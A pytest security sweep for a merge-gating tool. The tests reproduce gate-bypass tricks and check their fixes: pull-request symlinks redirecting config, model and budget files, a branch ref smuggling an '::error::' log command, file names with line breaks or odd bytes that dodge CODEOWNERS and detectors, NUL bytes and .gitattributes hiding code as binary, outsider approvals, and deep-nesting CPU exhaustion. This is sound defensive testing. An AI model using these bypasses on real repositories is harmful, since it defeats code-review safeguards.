"""A hostile-input and gate-bypass sweep of every face (CLI, Action, App): each test reproduced its
problem before the fix beside it. Real git repositories in temp dirs, real symlinks, the CLI's
``main``, the Action's entry points and the App's Flask client."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from mergeguard.git import GitRepo

from .gitrepo import commit, git, init_repo, numbered_history

STRICT = "conclusions: {medium: failure, high: failure, critical: failure}\n"
LENIENT = "conclusions: {medium: success, high: success, critical: success}\n"


@pytest.fixture
def origin(tmp_path):
    return numbered_history(tmp_path / "origin", 3)


# -- the Action's config and model inputs: a pull request's symlink does not choose what is read ------


def _pr_symlink(path: Path, target: str) -> None:
    """What a pull request's checkout (the merge commit) puts in the workspace: ``path`` a symlink."""
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)


@pytest.mark.parametrize("target", ["/dev/null", "lenient.yml", "../../outside.yml"])
def test_action_config_input_made_a_symlink_by_the_pull_request_is_still_read_at_the_base(origin, tmp_path, target):
    """The workflow's ``config`` names a file of the repository; the pull request turns that file into a
    symlink (to an empty file outside the repository, to a lenient file it adds, to a file beside the
    checkout). The gate must still be the base's file, not the defaults nor the link's target."""
    from mergeguard.action import config_at_base

    w, _ = origin
    strict = commit(w, {".github/gate.yml": STRICT}, "strict gate", when=1_700_001_000)
    (w / ".github" / "lenient.yml").write_text(LENIENT)
    (tmp_path / "outside.yml").write_text(LENIENT)
    cfg = w / ".github" / "gate.yml"
    _pr_symlink(cfg, target)
    path, config = config_at_base(GitRepo(w), str(cfg), strict)
    assert path is None and config is not None
    assert config.conclusions["medium"] == "failure" and config.source == f"{strict[:12]}:.github/gate.yml"
    # the same through a symlinked directory on the way, and named relative to the workspace
    (w / ".github" / "gate.yml").unlink()
    os.rename(w / ".github", w / "gh-pr")
    _pr_symlink(w / ".github", str(tmp_path))
    cwd = os.getcwd()
    try:
        os.chdir(w)
        path, config = config_at_base(GitRepo(w), ".github/gate.yml", strict)
    finally:
        os.chdir(cwd)
    assert path is None and config is not None and config.conclusions["medium"] == "failure"


def test_action_model_input_made_a_symlink_by_the_pull_request_is_still_read_at_the_base(origin, tmp_path):
    """The model directory the workflow names is exported from the base even when the pull request makes
    it a symlink to a model directory it brings (inside the checkout) or one outside it."""
    import json

    from mergeguard.action import _inside, model_at_base
    from mergeguard.models.model import default_model_dir

    w, _ = origin
    shipped = default_model_dir()
    meta = json.loads((shipped / "model.json").read_text())
    strict = {**meta, "thresholds": {"medium": 0.0001, "high": 0.0002, "critical": 0.0003}}
    lenient = {**meta, "thresholds": {"medium": 0.97, "high": 0.98, "critical": 0.99}}
    base = commit(w, {"ci/model/model.json": json.dumps(strict), "ci/model/model.txt": (shipped / "model.txt").read_text()},
                  "strict model", when=1_700_001_000)
    for where in (w / "pr-model", tmp_path / "elsewhere"):
        where.mkdir()
        (where / "model.json").write_text(json.dumps(lenient))
        (where / "model.txt").write_text((shipped / "model.txt").read_text())
    for target in (str(w / "pr-model"), str(tmp_path / "elsewhere")):
        if not (w / "ci" / "model").is_symlink():
            shutil.rmtree(w / "ci" / "model")
        _pr_symlink(w / "ci" / "model", target)
        assert _inside(str(w / "ci" / "model"), w) == Path("ci/model")
        out, why = model_at_base(GitRepo(w), str(w / "ci" / "model"), base, str(tmp_path))
        assert why is None and out is not None
        assert json.loads(Path(out, "model.json").read_text())["thresholds"] == strict["thresholds"]


# -- the Action's event payload and environment: wrong types are one line, never a traceback ---------

_S = "a" * 40


def _pr(**pr) -> dict:
    return {"pull_request": {"number": 1, "head": {"sha": _S}, "base": {"sha": "b" * 40}, **pr}}


@pytest.mark.parametrize(("name", "payload", "message"), [
    ("pull_request", _pr(number=True), "pull_request.number"),
    ("pull_request", _pr(number=-5), "pull_request.number"),
    ("pull_request", _pr(number=10**30), "pull_request.number"),
    ("pull_request", _pr(user={"login": 5}), "pull_request.user.login"),
    ("pull_request", _pr(user={"login": ["erin"]}), "pull_request.user.login"),
    ("pull_request", _pr(labels=5), "pull_request.labels"),
    ("pull_request", _pr(labels=[{"name": {"a": 1}}]), r"pull_request.labels\[\].name"),
    ("pull_request", _pr(body=["x"]), "pull_request.body"),
    ("pull_request", {**_pr(), "repository": {"default_branch": ["main"]}}, "repository.default_branch"),
    ("push", {"after": _S, "before": _S, "ref": 5}, "ref"),
    ("push", {"after": _S, "before": _S, "ref": "refs/heads/x\n::error::injected"}, "ref"),
    ("push", {"after": _S, "before": _S, "sender": {"login": 7}}, "sender.login"),
    ("push", {"after": _S, "before": _S, "head_commit": {"message": 7}}, "head_commit.message"),
])
def test_action_event_fields_of_the_wrong_type_are_a_clear_error(name, payload, message):
    from mergeguard.action import ActionError, parse_event

    with pytest.raises(ActionError, match=f"event payload: {message}"):
        parse_event(name, payload)


def test_action_event_flags_count_only_when_true():
    """``"deleted": "false"`` (a string) must not skip the scoring, nor make a push "forced"."""
    from mergeguard.action import parse_event

    t = parse_event("push", {"after": _S, "before": "b" * 40, "ref": "refs/heads/x", "deleted": "false", "forced": "no"})
    assert t.skip is None and t.head == _S and not t.forced
    t = parse_event("pull_request", _pr(draft="false", labels=[{"name": "db"}, {"name": None}, "x"], user={"login": "erin"}))
    assert not t.draft and t.labels == ("db",) and t.author == "erin" and t.event == "pull_request"


@pytest.mark.parametrize("value", ["abc", "nan", "-1", "0", "inf", "1e9"])
def test_action_fetch_timeout_garbage_is_a_clear_error(value):
    from mergeguard.action import DEFAULT_FETCH_TIMEOUT, ActionError, fetch_timeout

    with pytest.raises(ActionError, match="MERGEGUARD_FETCH_TIMEOUT must be seconds"):
        fetch_timeout(value)
    assert fetch_timeout(None) == fetch_timeout(" ") == DEFAULT_FETCH_TIMEOUT and fetch_timeout("60") == 60.0


# -- the error budget's file source: a symlink in the change's work tree does not redirect it ---------

BUDGET = ("error_budget:\n  json: {file: ci/slo.json}\n  floor: 0.25\n"
          "  tighten: {require: [{approvals: 1}]}\n  on_error: normal\n")


@pytest.mark.parametrize("target", ["other.json", "/nonexistent/slo.json"])
def test_budget_file_made_a_symlink_by_the_change_is_still_read_at_the_base(tmp_path, target):
    """The base tracks ``ci/slo.json`` (5% left: tighten) and another service's ``ci/other.json`` (90%).
    The change turns ``ci/slo.json`` into a symlink: to the healthy file, or to nothing (with
    ``on_error: normal`` an unreadable source lifts the tightening). The base's 5% must still rule."""
    import json

    from mergeguard.gate import Gate

    w = init_repo(tmp_path / "w")
    base = commit(w, {"a.py": "x = 1\n", ".github/mergeguard.yml": BUDGET,
                      "ci/slo.json": json.dumps({"remaining": 0.05}), "ci/other.json": json.dumps({"remaining": 0.9})},
                  "base")
    _pr_symlink(w / "ci" / "slo.json", target)
    gate = Gate(GitRepo(w), None)
    status = gate.budget_for(gate.config_at(base), base)
    assert status is not None and status.ok and status.remaining == 0.05, status


def test_an_untracked_budget_file_is_not_read_through_a_symlink_in_the_work_tree(tmp_path):
    """A file the base does not track (written by an earlier workflow step) is read from disk, but not
    through a symlinked directory the change put on its way (to a healthy document it brings)."""
    import json

    from mergeguard.gate import Gate

    w = init_repo(tmp_path / "w")
    base = commit(w, {"a.py": "x = 1\n", ".github/mergeguard.yml": BUDGET}, "base")
    (w / "pr").mkdir()
    (w / "pr" / "slo.json").write_text(json.dumps({"remaining": 1.0}))
    _pr_symlink(w / "ci", "pr")
    gate = Gate(GitRepo(w), None)
    status = gate.budget_for(gate.config_at(base), base)
    assert status is not None and not status.ok
    assert status.error == "error budget source unavailable (reached through a symbolic link in the repository's work tree)"
    # the same file written where the config says is read
    (w / "ci").unlink()
    (w / "ci").mkdir()
    (w / "ci" / "slo.json").write_text(json.dumps({"remaining": 0.6}))
    gate = Gate(GitRepo(w), None)
    assert gate.budget_for(gate.config_at(base), base).remaining == 0.6


# -- CLI inputs: datasets, caps -------------------------------------------------------------------


@pytest.mark.parametrize("data", [b"\xff\xfe{}\n", b'{"features": [], "labels": {}, "time": 1}\n',
                                  b'{"features": {"la": 1}, "labels": [], "time": 1}\n',
                                  b'{"features": {}, "labels": {}, "time": "yesterday"}\n',
                                  b'{"features": {}, "labels": {}, "time": 1, "repo": 5}\n', b"[1, 2]\n"])
@pytest.mark.parametrize("command", ["train", "evaluate", "compare"])
def test_a_dataset_that_is_not_one_is_a_one_line_error(tmp_path, capsys, data, command):
    from mergeguard.cli import main

    ds = tmp_path / "ds.jsonl"
    ds.write_bytes(data)
    args = {"train": ["train", str(ds), "--out", str(tmp_path / "m")], "evaluate": ["evaluate", str(ds)],
            "compare": ["compare", str(ds), "--candidate", str(tmp_path / "m")]}[command]
    if command == "compare":
        from mergeguard.models.model import default_model_dir

        args[-1] = str(default_model_dir())
    assert main(args) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(f"mergeguard: error: {ds}"), err


@pytest.mark.parametrize("flag", ["--max-diff-bytes", "--max-files", "--max-file-lines", "--top"])
@pytest.mark.parametrize("mode", ["commit", "head", "diff"])
def test_negative_caps_are_refused_up_front(origin, tmp_path, capsys, flag, mode):
    """Before: ``--max-diff-bytes -5`` scored an empty change noted "only the first -5 were read", and a
    negative ``--max-files`` reported every commit "not scored" with exit 0."""
    from mergeguard.cli import main

    w, _ = origin
    diff = tmp_path / "c.diff"
    diff.write_text("diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x = 2\n+x = 3\n")
    what = {"commit": ["--repo", str(w), "--commit", "HEAD"], "head": ["--repo", str(w), "--base", "HEAD~1", "--head", "HEAD"],
            "diff": ["--diff", str(diff)]}[mode]
    assert main(["score", *what, flag, "-5"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [f"mergeguard: error: {flag} must be 0 or more, got -5"]


# -- diffs: git's quoted file names are the files' real names (CODEOWNERS, ignore, images) -----------


def _owned_repo(tmp_path: Path, name: str) -> Path:
    w = init_repo(tmp_path / "owned")
    commit(w, {".github/CODEOWNERS": "/secure/ @sec\n", "secure/plain.py": "z = 1\n",
               ".github/mergeguard.yml": "require: {low: [codeowners], medium: [codeowners]}\n",
               name: "y = 1\n"}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {name: "y = 2\n"}, "feat", when=1_700_000_100, author=("Erin", "erin@example.com"))
    return w


@pytest.mark.parametrize("name", ['secure/a"b.py', "secure/t\tab.py", "secure/back\\slash.py", "secure/new\nline.py",
                                  "secure/ü.py"])
def test_a_file_name_git_quotes_does_not_escape_its_code_owners(tmp_path, capsys, name):
    """git writes ``"b/secure/a\\"b.py"`` for a name with a quote, a tab, a backslash or a line break; read
    as it stands, that is no path CODEOWNERS owns, so any approval passed a change to ``/secure/``."""
    import json

    from mergeguard.cli import main

    w = _owned_repo(tmp_path, name)
    assert main(["score", "--repo", str(w), "--base", "main", "--head", "feat", "--approved-by", "bob",
                 "--author", "erin", "--format", "json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["change"]["paths"] == [name]
    (owners,) = [v for v in doc["verdict"]["required_validations"] if v["id"] == "codeowners"]
    assert not owners["satisfied"] and "waiting for @sec" in owners["detail"], owners
    # the same change as a diff file (git diff's own output) names the same file
    diff = tmp_path / "c.diff"
    diff.write_bytes(git(w, "diff", "main", "feat").encode("utf-8"))
    assert main(["score", "--diff", str(diff), "--repo", str(w), "--base", "main", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["change"]["paths"] == [name]


def test_quoted_rename_and_copy_names_are_unquoted():
    from mergeguard.change import parse_diff

    text = ('diff --git "a/my \\"old\\" file.py" "b/new\\tname \\303\\274.py"\nsimilarity index 100%\n'
            'rename from "my \\"old\\" file.py"\nrename to "new\\tname \\303\\274.py"\n')
    (f,), _ = parse_diff(text.encode())
    assert (f.path, f.old_path, f.status) == ("new\tname ü.py", 'my "old" file.py', "renamed")


# -- a tightened gate: only documentation passes untouched, not code whose path looks like it ---------

TIGHT = ("error_budget:\n  json: {file: slo.json}\n  floor: 0.25\n  tighten: {require: [{approvals: 1}]}\n")


@pytest.mark.parametrize("path", ["svc/history.py", "svc/changes.go", "app/docs/handler.py", "news/feed.js",
                                  "web/templates/index.html", "src/license.ts"])
def test_code_named_like_documentation_is_not_exempt_from_a_tightened_gate(tmp_path, capsys, path):
    """Below the budget's floor every non-trivial change needs ``tighten.require``; "documentation only"
    is the exemption. A code module named ``history.py`` or living in ``app/docs/``, or an HTML template
    outside the documentation, is code: it must not pass as documentation without the approval."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {".github/mergeguard.yml": TIGHT, "slo.json": json.dumps({"remaining": 0.05}),
               path: "x = 1\n", "docs/guide.md": "# Guide\n"}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {path: "x = 2\n"}, "feat", when=1_700_000_100)
    git(w, "checkout", "-q", "-b", "docs", "main")
    commit(w, {"docs/guide.md": "# Guide\n\nMore.\n"}, "docs", when=1_700_000_100)
    for head, needed in (("feat", True), ("docs", False)):
        assert main(["score", "--repo", str(w), "--base", "main", "--head", head, "--format", "json"]) == 0
        verdict = json.loads(capsys.readouterr().out)["verdict"]
        ids = [v["id"] for v in verdict["required_validations"]]
        assert ("approvals:1" in ids) == needed, (head, verdict["notes"])
        if needed:
            assert verdict["conclusion"] == "action_required"


# -- caps: files past them still count for the gate --------------------------------------------------


@pytest.mark.parametrize("cap", [["--max-files", "2"], ["--max-diff-bytes", "3000"]])
def test_an_owned_file_past_the_caps_still_needs_its_code_owners(tmp_path, capsys, cap):
    """The caps keep a pathological diff cheap to read (3,000 files, 20 MB by default, which a pull
    request can reach on purpose); what they leave out was also left out of the touched paths, so an
    owned file sorted after enough filler escaped CODEOWNERS. The paths come from git, whatever the caps."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "owned")
    commit(w, {".github/CODEOWNERS": "/secure/ @sec\n", "secure/auth.py": "y = 1\n",
               ".github/mergeguard.yml": "require: {low: [codeowners], medium: [codeowners]}\n"}, "base")
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {"secure/auth.py": "y = 2\n", **{f"a/filler{i}.md": "x" * 1200 + "\n" for i in range(4)}}, "feat",
           when=1_700_000_100, author=("Erin", "erin@example.com"))
    args = ["score", "--repo", str(w), "--base", "main", "--approved-by", "bob", "--author", "erin", "--format", "json", *cap]
    assert main([*args, "--head", "feat"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["change"]["truncated"], "the cap must bite for this test to mean anything"
    assert "secure/auth.py" in doc["change"]["paths"]
    (owners,) = [v for v in doc["verdict"]["required_validations"] if v["id"] == "codeowners"]
    assert not owners["satisfied"] and "waiting for @sec for secure/auth.py" in owners["detail"], owners
    # the same commit scored as history (--commit) gates the same way
    assert main([*args, "--commit", "feat"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert "secure/auth.py" in doc["change"]["paths"] and doc["verdict"]["conclusion"] == "action_required"


# -- .gitattributes in the change's checkout do not hide its lines ------------------------------------


BIG = "".join(f"def f{i}(x, retries=3, timeout=None):\n    while True:\n        try:\n            return x + {i}\n"
              "        except Exception:\n            pass\n\n" for i in range(120))


@pytest.mark.parametrize("attributes", ["* -diff\n", "*.py binary\n"])
def test_gitattributes_in_the_checkout_do_not_turn_code_into_binary(tmp_path, capsys, attributes):
    """A pull request's checkout (the Action's workspace on ``pull_request``, a CI job's clone) carries
    its ``.gitattributes``; ``* -diff`` made git report every file as binary, so a 700-line change
    scored as if it added nothing (0.39 -> 0.007, critical -> low in a probe). Diffs and the history's
    line counts are read without the work tree's attributes, as the App's bare mirror reads them."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"src/a.py": "def f(x):\n    return x\n"}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "plain")
    commit(w, {"src/a.py": BIG}, "big", when=1_700_000_100)
    git(w, "checkout", "-q", "-b", "hidden")
    commit(w, {".gitattributes": attributes}, "attributes", when=1_700_000_200)  # checked out: in the work tree
    seen = {}
    for head in ("plain", "hidden"):
        for how in (["--base", "main", "--head", head], ["--commit", f"{head}~1" if head == "hidden" else head]):
            assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
            doc = json.loads(capsys.readouterr().out)
            seen[(head, how[0])] = (doc["change"]["added"], doc["score"])
    assert seen[("plain", "--base")][0] == BIG.count("\n") and seen[("hidden", "--base")][0] == BIG.count("\n") + 1
    assert seen[("hidden", "--commit")] == seen[("plain", "--commit")]
    assert abs(seen[("hidden", "--base")][1] - seen[("plain", "--base")][1]) < 0.05
    assert git(w, "status", "--porcelain") == ""  # nothing written into the repository


@pytest.mark.parametrize("url", ["not a url", "ftp://api.example", "https://", "https://api.example/ x"])
def test_action_garbage_api_url_is_a_clear_error(url):
    """``GITHUB_API_URL=not a url`` ended in an AttributeError traceback inside PyGithub."""
    from mergeguard.action import ActionError, Env

    env = {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": "event.json"}
    with pytest.raises(ActionError, match="GITHUB_API_URL must be an http"):
        Env.from_environ({**env, "GITHUB_API_URL": url})
    assert Env.from_environ(env).api_url == "https://api.github.com"
    assert Env.from_environ({**env, "GITHUB_API_URL": "http://127.0.0.1:9/api/v3"}).api_url == "http://127.0.0.1:9/api/v3"


def _filler_diff(files: int, lines: int) -> bytes:
    return "".join(f"diff --git a/f{i}.txt b/f{i}.txt\n--- a/f{i}.txt\n+++ b/f{i}.txt\n@@ -0,0 +1,{lines} @@\n"
                   + "+filler line\n" * lines for i in range(files)).encode()


def test_a_diff_is_held_only_as_far_as_the_cap_reads_it(tmp_path, capsys):
    """``--diff`` read the whole input before the cap cut it: memory grew with the input, not the cap."""
    import json
    import subprocess
    import sys

    from mergeguard.cli import main
    from mergeguard.sources import read_diff_input

    data = _filler_diff(40, 5_000)  # 2.6 MB
    path = tmp_path / "big.diff"
    path.write_bytes(data)
    held = read_diff_input(str(path), 100_000)
    assert len(held) == 100_001 and held == data[:100_001] and held.size == len(data)
    assert read_diff_input(str(path)) == data  # without a cap: all of it
    assert main(["score", "--diff", str(path), "--max-diff-bytes", "100000", "--format", "json"]) == 0
    notes = json.loads(capsys.readouterr().out)["change"]["truncated"]
    assert f"diff is {len(data):,} bytes; only the first 100,000 were read" in notes
    p = subprocess.run([sys.executable, "-m", "mergeguard.cli", "score", "--diff", "-", "--max-diff-bytes", "100000",
                        "--format", "json"], input=data, capture_output=True, timeout=300)
    assert p.returncode == 0, p.stderr
    assert f"diff is {len(data):,} bytes; only the first 100,000 were read" in json.loads(p.stdout)["change"]["truncated"]


# -- approvals: only people the repository let in -----------------------------------------------------


def test_an_approval_by_someone_outside_the_repository_does_not_count(tmp_path):
    """On a public repository anyone may submit an approving review: a second account of the author's
    (association NONE, or CONTRIBUTOR once it had a commit merged) satisfied ``approvals: 1`` and, with no
    CODEOWNERS, the default ``codeowners`` validation."""
    from mergeguard.github_api import GitHubClient

    from .ghstub import GitHubStub

    w = init_repo(tmp_path / "w")
    commit(w, {"a.py": "x = 1\n"}, "c1")
    git(w, "checkout", "-q", "-b", "feat")
    commit(w, {"a.py": "x = 2\n"}, "c2", when=1_700_000_100)
    with GitHubStub(github_token="ghs_probe") as stub:
        stub.add_repo("octo/svc", w)
        stub.add_pull("octo/svc", 3, head="feat", author="erin")
        for login, association in (("sock", "NONE"), ("drive-by", "CONTRIBUTOR"), ("first", "FIRST_TIME_CONTRIBUTOR"),
                                   ("owner", "OWNER"), ("member", "MEMBER"), ("collab", "COLLABORATOR")):
            stub.add_review("octo/svc", 3, login, "APPROVED", association=association)
        client = GitHubClient("ghs_probe", stub.url)
        head = stub.repos["octo/svc"].pulls[3].head_sha
        assert client.approvals("octo/svc", 3, head) == ("collab", "member", "owner")
        assert stub.violations == []


# -- the App: a pull request retargeted to another base is scored again ------------------------------


@pytest.mark.parametrize(("changes", "kind"), [
    ({"base": {"ref": {"from": "develop"}, "sha": {"from": "a" * 40}}}, "score"),
    ({"body": {"from": "Rollout: canary 5% for a day"}}, "reevaluate"),
    ({"body": {"from": "old"}, "base": {"ref": {"from": "develop"}}}, "score"),
    ({"title": {"from": "old title"}}, None),
    ({}, None),
])
def test_an_edited_pull_request_is_scored_again_when_its_base_changes(app, changes, kind):
    """Opened against a branch with a lenient gate and retargeted to ``main``, a pull request kept the
    lenient branch's verdict: ``edited`` was not handled, and the check run of its head stayed as it was.
    A new description (a rollout note added or removed) is decided again; a new title changes nothing."""
    from mergeguard.app.web import runtime

    from .test_app_web import example, post

    payload = example("pull_request", "opened")
    payload.update(action="edited", changes=changes)
    resp = post(app.test_client(), "pull_request", payload)
    jobs = runtime(app).store.all_jobs()
    if kind is None:
        assert resp.status_code == 204 and jobs == []
    else:
        assert resp.status_code == 202, resp.get_data(as_text=True)
        assert [j["kind"] for j in jobs] == [kind] and jobs[0]["pr_number"] == payload["pull_request"]["number"]
    bad = {**payload, "changes": "base"}  # not an object: refused at the edge
    assert post(app.test_client(), "pull_request", bad).status_code == 400


# -- pathological nesting: bounded work, said as unavailable syntax -----------------------------------


def test_text_nested_past_the_limit_is_not_parsed(tmp_path, capsys):
    """tree-sitter's queries cost nodes x depth: a 250 kB line of ``f(f(f(...)))`` 50,000 deep took 208 s of
    CPU in the detectors (200 kB of 1,000-deep lines, 8 s). Text whose brackets nest deeper than
    ``MAX_NESTING`` is not parsed: its syntax is unavailable, as for a file over ``MAX_BYTES``."""
    import json

    from mergeguard.cli import main
    from mergeguard.features import syntax
    from mergeguard.nesting import MAX_NESTING, nested_deeper_than

    limit = MAX_NESTING
    at = b"x = " + b"[" * limit + b"1" + b"]" * limit + b";\n"  # one tree level a bracket: under MAX_TREE_DEPTH
    past = b"x = " + b"[" * (limit + 1) + b"1" + b"]" * (limit + 1) + b";\n"
    assert syntax.parse(at, "javascript") is not None and syntax.parse(past, "javascript") is None
    assert syntax.parse_checked(past, "javascript") == (None, f"brackets nested deeper than {limit}")
    calls = b"x = " + b"f(" * limit + b"1" + b")" * limit + b";\n"  # two levels a bracket (call, arguments)
    assert syntax.parse_checked(calls, "javascript")[1].startswith("a syntax tree deeper than")  # tests/test_tree_depth.py
    assert not nested_deeper_than(b")" * 900 + b"(" * limit)  # stray closers count for nothing
    assert nested_deeper_than(b")" * 900 + b"(" * (limit + 1))  # and hide nothing after them
    assert not nested_deeper_than(b"([{" * 10_000 + b"}])" * 10_000, limit=30_000)
    diff = tmp_path / "deep.diff"
    body = b"x = " + b"f(" * 50_000 + b"1" + b")" * 50_000 + b";"
    diff.write_bytes(b"diff --git a/d.js b/d.js\n--- a/d.js\n+++ b/d.js\n@@ -0,0 +1 @@\n+" + body + b"\n")
    assert main(["score", "--diff", str(diff), "--format", "json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["signals"]["syntax"]["parsed"] == 0 and doc["signals"]["syntax"]["unavailable"] == 1


def test_nesting_depth_agrees_with_a_plain_running_count():
    """The depth is computed in NumPy as the running sum minus its lowest point so far; a plain loop that
    clamps at 0 bracket by bracket is the definition it must agree with, on seeded random texts whose
    brackets wander above and below the limit (stray closers included)."""
    import random

    from mergeguard.nesting import nested_deeper_than

    def plain(data: bytes, limit: int) -> bool:
        depth = 0
        for byte in data:
            if byte in b"([{":
                depth += 1
            elif byte in b")]}":
                depth = max(depth - 1, 0)
            if depth > limit:
                return True
        return False

    rng = random.Random(7)
    answers = set()
    for _ in range(300):
        data = bytes(rng.choice(b"([{)]}x ") for _ in range(rng.randrange(0, 400)))
        limit = rng.randrange(0, 12)
        answers.add(nested_deeper_than(data, limit))
        assert nested_deeper_than(data, limit) == plain(data, limit), (data, limit)
    assert answers == {True, False}  # both outcomes were exercised


@pytest.mark.parametrize("url", ["http://prom:9090/a b", "http://prom:9090/\\nq", "https://slo.example/\\tx", "http://a\\u0007b"])
def test_a_budget_url_with_whitespace_or_control_characters_is_a_config_error(url):
    """Accepted before, and shown as it was in the verdict's notes (a line break splits a report line)."""
    from mergeguard.config import check

    _, problems = check(f'error_budget:\n  json: {{url: "{url}"}}\n  tighten: {{require: [codeowners]}}\n')
    assert [p.path for p in problems] == ["error_budget.json.url"], problems
    assert check('error_budget:\n  json: {url: "https://slo.example/b.json?x=1"}\n  tighten: {require: [codeowners]}\n')[1] == []


# -- a file named with a line break: the detectors read its code ---------------------------------------

RETRY = ("import requests\n\n\ndef fetch(url):\n    while True:\n        try:\n            return requests.get(url)\n"
         "        except Exception:\n            pass\n")


@pytest.mark.parametrize("name", ["svc/new\nline.py", "svc/two\n\nbreaks\n.py", "svc/c\rr.py", "svc/plain.py"])
def test_a_file_named_with_a_line_break_is_read_by_the_detectors(tmp_path, capsys, name):
    """``git cat-file --batch`` reads one name a line, so ``rev:svc/new<LF>line.py`` could not be asked for:
    a pull request naming its file so hid an unbounded retry loop with no timeout from every detector
    (syntax unavailable, no finding). Such blobs are now read by object id."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", name: "x = 1\n"}, "base", when=1_700_000_000)
    git(w, "checkout", "-q", "-b", "feat")
    feat = commit(w, {name: RETRY}, "feat", when=1_700_000_100)
    repo = GitRepo(w)
    assert repo.read_blobs([f"{feat}:{name}", f"{feat}:{name}x"]) == {f"{feat}:{name}": RETRY.encode(),
                                                                        f"{feat}:{name}x": None}
    diff = tmp_path / "c.diff"
    diff.write_bytes(git(w, "diff", "main", "feat").encode("utf-8"))
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"], ["--diff", str(diff), "--base", "main"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        assert doc["change"]["paths"] == [name]
        assert doc["signals"]["syntax"]["unavailable"] == 0, (how, doc["signals"]["syntax"])
        kinds = {f["kind"] for f in doc["findings"]}
        assert {"retry.added", "retry.without_limit"} <= kinds, (how, kinds)



def test_a_name_ending_in_cr_is_not_read_as_the_name_without_it(tmp_path):
    """``cat-file --batch`` drops a CR before the line end: ``rev:a.py<CR>`` answered with ``a.py``'s blob,
    another file's content, and a name that only exists with the CR read as missing."""
    w = init_repo(tmp_path / "w")
    sha = commit(w, {"a.py": "benign\n", "a.py\r": "other\n", "b.py\r": "only\n"}, "c")
    assert GitRepo(w).read_blobs([f"{sha}:a.py\r", f"{sha}:b.py\r", f"{sha}:a.py", f"{sha}:b.py"]) == {
        f"{sha}:a.py\r": b"other\n", f"{sha}:b.py\r": b"only\n", f"{sha}:a.py": b"benign\n", f"{sha}:b.py": None}


def test_a_file_named_with_bytes_that_are_not_utf8_is_read_by_the_detectors(tmp_path, capsys):
    """A name that is not UTF-8 reaches mergeguard with U+FFFD for its bad bytes (the diff is decoded so),
    which names no file: ``svc/<FF><FE>.py`` hid its retry loop from every detector. Read by id; two
    names that decode alike are read as neither, never one for the other."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n"}, "base")
    git(w, "checkout", "-q", "-b", "feat")
    feat = commit(w, {os.fsdecode(b"svc/\xff\xfe.py"): RETRY, os.fsdecode(b"lib/\xff.py"): "a = 1\n",
                      os.fsdecode(b"lib/\xfe.py"): "b = 2\n"}, "feat", when=1_700_000_100)
    assert GitRepo(w).read_blobs([f"{feat}:svc/\ufffd\ufffd.py", f"{feat}:lib/\ufffd.py"]) == {
        f"{feat}:svc/\ufffd\ufffd.py": RETRY.encode(), f"{feat}:lib/\ufffd.py": None}
    for how in (["--base", "main", "--head", "feat"], ["--commit", "feat"]):
        assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
        doc = json.loads(capsys.readouterr().out)
        assert "svc/\ufffd\ufffd.py" in doc["change"]["paths"]
        assert {"retry.added", "retry.without_limit"} <= {f["kind"] for f in doc["findings"]}, how

# -- a NUL byte in a code file: diffed as text, read by the detectors ---------------------------------

LOOPS = "".join(f"async function f{i}(url) {{\n  while (true) {{\n    try {{\n      return await fetch(url);\n"
                "    } catch (e) {}\n  }\n}\n" for i in range(40))


@pytest.mark.parametrize("name", ["src/a.js", "src/A.TS"])
def test_a_nul_byte_does_not_turn_code_into_binary(tmp_path, capsys, name):
    """git calls a file with a NUL byte binary and shows none of its lines; ``// <NUL>`` is a valid
    JavaScript comment, so one byte hid a 280-line retry loop without bound or timeout (0.32 and
    ``action_required`` -> 0.007 and ``success`` in a probe). Code files are diffed as text; a real
    binary file (an image) still is binary."""
    import json

    from mergeguard.cli import main

    w = init_repo(tmp_path / "w")
    commit(w, {"README.md": "x\n", name: "const x = 1;\n", "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0a"}, "base")
    git(w, "checkout", "-q", "-b", "plain")
    commit(w, {name: LOOPS}, "plain", when=1_700_000_100)
    git(w, "checkout", "-q", "-b", "nul", "main")
    commit(w, {name: "// \0\n" + LOOPS, "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0b\nc\n"}, "nul", when=1_700_000_100)
    seen = {}
    for head in ("plain", "nul"):
        for how in (["--base", "main", "--head", head], ["--commit", head]):
            assert main(["score", "--repo", str(w), *how, "--format", "json"]) == 0
            doc = json.loads(capsys.readouterr().out)
            seen[head, how[0]] = doc
    for how in ("--base", "--commit"):
        plain, nul = seen["plain", how], seen["nul", how]
        assert nul["change"]["added"] == plain["change"]["added"] + 1 == LOOPS.count("\n") + 1  # the png adds none
        kinds = {f["kind"] for f in nul["findings"]}
        assert {"retry.added", "retry.without_limit", "timeout.missing"} <= kinds, kinds
        assert nul["verdict"]["conclusion"] == plain["verdict"]["conclusion"] != "success"
    assert b"Binary files a/logo.png and b/logo.png differ" in GitRepo(w).diff("main", "nul")


# -- a code file turned into a Git LFS pointer: said, not scored as if it were the change -------------

